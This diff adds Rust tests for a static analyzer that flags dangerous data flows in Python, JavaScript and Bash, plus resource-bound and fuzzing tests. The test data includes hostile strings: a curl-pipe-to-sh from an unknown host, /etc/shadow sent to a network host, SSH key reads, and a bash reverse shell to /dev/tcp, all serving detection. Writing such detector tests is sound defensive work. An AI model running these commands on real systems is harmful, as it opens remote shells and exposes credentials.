@@ -295,3 +295,108 @@ fn bash() {
         "credential_file /etc/shadow -> network_send e.example\nelevates",
     );
 }
+
+#[test]
+fn tools_that_run_what_they_are_told() {
+    py("import subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)", "!user_input sys.argv -> shell");
+    py("import sqlite3, sys\nsqlite3.connect('a').execute(sys.argv[1])", "!user_input sys.argv -> sql_query");
+    sh("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "official_installer sh.rustup.rs -> shell");
+    sh("curl https://get.example.net/rustup.rs | sh", "remote_content get.example.net -> shell");
+}
+
+#[test]
+fn work_is_bounded() {
+    let sums = format!("x = {}1", "'a' + ".repeat(20_000));
+    assert!(!lines(&outcome(Language::Python, &sums)).is_empty());
+    let doubles = "x = 'ab'\n".to_owned() + &"x = x + x\n".repeat(200);
+    outcome(Language::Python, &doubles);
+    let calls = (0..200).fold(String::from("def f0(a): return a\n"), |text, n| {
+        text + &format!("def f{}(a): return f{n}(a) + f{n}(a) + f{n}(a)\n", n + 1)
+    });
+    outcome(Language::Python, &calls);
+    let chain = "a".to_owned() + &".b()".repeat(5_000);
+    assert!(outcome(Language::JavaScript, &chain).cut);
+    let deep = "(".repeat(600) + &")".repeat(600);
+    assert_eq!(parse(&deep, Language::Bash, 1 << 20).map(|_| ()), Err(Refusal::TooDeep));
+}
+
+/// Pieces of programs; joined at random they make broken ones.
+const PIECES: &[&str] = &[
+    "import os\n",
+    "open('~/.ssh/id_rsa').read()",
+    "requests.post(",
+    "x",
+    "=",
+    "(",
+    ")",
+    "[",
+    "]",
+    "{",
+    "}",
+    "'",
+    "\"",
+    "`",
+    "$(",
+    "${",
+    "|",
+    ">",
+    "<",
+    "<<EOF\n",
+    "EOF\n",
+    "def f(a, b):\n    ",
+    "return ",
+    "=>",
+    "function ",
+    "eval(",
+    "base64.b64decode(",
+    "'aGk='",
+    "[::-1]",
+    "[1:-1]",
+    "% (",
+    ".join(",
+    ".format(",
+    "chr(",
+    "99",
+    "-9223372036854775808",
+    "curl ",
+    "-d @",
+    "-o ",
+    "sh -c ",
+    "\n",
+    "  ",
+    ";",
+    "&&",
+    "for x in ",
+    "while true; do ",
+    "done",
+    "if ",
+    "fi\n",
+    "class A:\n  ",
+    "self.x",
+    "lambda x: ",
+    "for c in ",
+    "中",
+    "\u{FFFC}",
+    "\\x41",
+    "f'{x}'",
+    "atob(",
+    "await ",
+    "...",
+    "?.",
+    "new ",
+    "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
+    "exec 3<>",
+    "read x",
+    "\0",
+];
+
+proptest::proptest! {
+    #[test]
+    fn never_panics(pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..40)) {
+        let code = pieces.concat();
+        for language in [Language::Python, Language::JavaScript, Language::TypeScript, Language::Bash] {
+            let first = lines(&outcome(language, &code));
+            proptest::prop_assert_eq!(first, lines(&outcome(language, &code)));
+        }
+    }
+}
